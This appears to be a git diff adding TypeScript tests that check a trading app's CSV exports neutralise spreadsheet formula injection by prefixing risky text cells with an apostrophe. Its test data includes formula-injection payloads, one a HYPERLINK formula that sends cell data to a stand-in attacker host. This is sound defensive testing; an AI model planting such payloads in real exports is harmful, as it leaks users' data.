@@ -5,6 +5,7 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { parse } from 'csv-parse/sync';
+import { numberCell, textCell } from '../../src-shared/csv-cells.ts';
 import type { ApiFill } from '../../src-shared/schemas.ts';
 import { buildServerApp } from '../../src-main/server/app.ts';
 import { DAILY_CSV_COLUMNS, FILLS_CSV_COLUMNS, usdToDecimalString } from '../../src-main/server/csv-export.ts';
@@ -84,5 +85,47 @@ describe('CSV exports', () => {
     } finally {
       await server.close();
     }
+  });
+
+  test('text cells a spreadsheet would run as a formula get a leading apostrophe; numbers, negative ones too, stay numbers', async () => {
+    const api = new FakeApi();
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', '\uFF1D1+1'];
+    api.fills = formulas.map((symbol, i) => ({ ...fakeFill(i + 1), symbol, tradeId: symbol, fee: '-0.0384', feeUsd: -0.0384, feeCurrency: i === 0 ? '=1' : 'USDT' }));
+    api.dailyVolume = async (query) => {
+      const day = { date: query.from, volumeUsd: 12.5, makerVolumeUsd: 0, takerVolumeUsd: 12.5, feesUsd: -12.5, trades: 1 };
+      return { from: query.from, to: query.from, currency: 'USD' as const, kinds: ['perpetual' as const], total: [day], series: formulas.map((label, i) => ({ key: `acc_${i}`, label, days: [day] })) };
+    };
+    const server = await serve(api);
+    try {
+      const fills = parse((await httpCall(server.url, 'GET', '/api/v1/export/fills.csv')).text, { columns: true }) as Record<string, string>[];
+      assert.deepEqual(fills.map((row) => row.symbol), formulas.map((f) => `'${f}`));
+      assert.deepEqual(fills.map((row) => row.trade_id), formulas.map((f) => `'${f}`));
+      assert.equal(fills[0]!.fee_currency, "'=1");
+      for (const row of fills) {
+        assert.equal(row.fee, '-0.0384', 'a negative amount is a number, not a formula');
+        assert.equal(row.fee_usd, '-0.038400');
+        assert.equal(row.price, '64000.5');
+      }
+      const daily = parse((await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-01-30&groupBy=account')).text, { columns: true }) as Record<string, string>[];
+      assert.deepEqual(daily.map((row) => row.label), formulas.map((f) => `'${f}`));
+      assert.deepEqual(daily.map((row) => row.fees_usd), formulas.map(() => '-12.500000'));
+      assert.deepEqual(daily.map((row) => row.key), formulas.map((_, i) => `acc_${i}`), 'ordinary text is untouched');
+    } finally {
+      await server.close();
+    }
+  });
+});
+
+describe('spreadsheet-safe cells', () => {
+  test('text starting with = + - @ tab or CR (or their full-width forms) is prefixed; other text is not', () => {
+    for (const text of ['=1', '+1', '-1', '@a', '\t1', '\r1', '\uFF1D1', '\uFF0B1', '\uFF0D1', '\uFF20a']) assert.equal(textCell(text), `'${text}`, JSON.stringify(text));
+    for (const text of ['', 'BTCUSDT', "'=1", ' =1', 'a=1', '1-1', 'PURR/USDC']) assert.equal(textCell(text), text, JSON.stringify(text));
+  });
+
+  test('plain decimals in number columns stay as they are; anything else there is treated as text', () => {
+    for (const number of ['0', '-12.5', '64000.50', '-0.000001', '1767323045000']) assert.equal(numberCell(number), number);
+    assert.equal(numberCell('-1+2'), "'-1+2");
+    assert.equal(numberCell('=1'), "'=1");
+    assert.equal(numberCell('1e5'), '1e5');
   });
 });
